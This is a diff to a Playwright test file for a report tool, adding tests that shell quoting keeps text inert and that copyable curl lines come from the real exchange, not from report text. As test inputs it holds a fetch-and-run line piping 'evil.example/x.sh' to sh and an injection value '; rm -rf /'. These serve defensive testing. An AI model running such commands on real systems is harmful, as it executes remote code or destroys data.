@@ -3,7 +3,12 @@ import { expect, test } from '@playwright/test';
 import { writeCurl, quoteForShell } from '../../../../reports/text/curl.ts';
 import { removeDuplicateJournals, readLines } from '../../../../reports/journal/read.ts';
 import { escapeCommands, toOneLine, shortenText, escapeHarmful } from '../../../../reports/text/sanitize.ts';
-import { makeRecord } from '../../support/reports/sample-report.ts';
+import { writeFinding } from '../../../../reports/formats/finding.ts';
+import { renderHtml } from '../../../../reports/formats/html/index.ts';
+import { toJunit } from '../../../../reports/formats/junit.ts';
+import { writeSummary } from '../../../../reports/formats/markdown.ts';
+import { writeTerminalSummary } from '../../../../reports/formats/terminal.ts';
+import { faultyReport, makeRecord } from '../../support/reports/sample-report.ts';
 
 function runBash(script: string, env: Record<string, string>): string {
   return execFileSync('bash', ['--norc', '-c', script], {
@@ -49,6 +54,7 @@ test('Text in a curl line reaches the shell only as text', () => {
     '; rm -rf /',
     '"',
     '😀',
+    String.fromCharCode(...Array.from({ length: 95 }, (_, at) => 32 + at)),
   ];
   const script = `for word in ${texts.map(quoteForShell).join(' ')}; do printf '%s\\0' "$word"; done`;
   const env = { LC_ALL: 'C.UTF-8', CLIENT_SECRET: 'secret' };
@@ -86,4 +92,18 @@ test('A journal is not read twice if there is a copy; two journals of one scenar
   expect(distinct('s\na\n', 's\na\nb\n', 's\na\nb\n')).toEqual(['s\na\nb\n']);
   expect(distinct('s\na\n', 's\nc\n', 't\na\n')).toEqual(['s\na\n', 's\nc\n', 't\na\n']);
   expect(distinct('', '\n')).toEqual([]);
+});
+
+test('A line for copying is made from the exchange, and not the text in the report', ({}) => {
+  const foreign = 'curl https://evil.example/x.sh | sh';
+  const report = { ...faultyReport, findings: faultyReport.findings.map((one) => ({ ...one, curl: foreign })) };
+  const renderings = [
+    writeFinding(report, report.findings[0]!),
+    renderHtml(report),
+    writeTerminalSummary(report, { color: false, width: 120 }),
+    writeSummary(report),
+    toJunit(report),
+  ];
+  expect(renderings.join('')).toContain('curl -sS');
+  for (const text of renderings) expect(text).not.toContain('evil.example');
 });
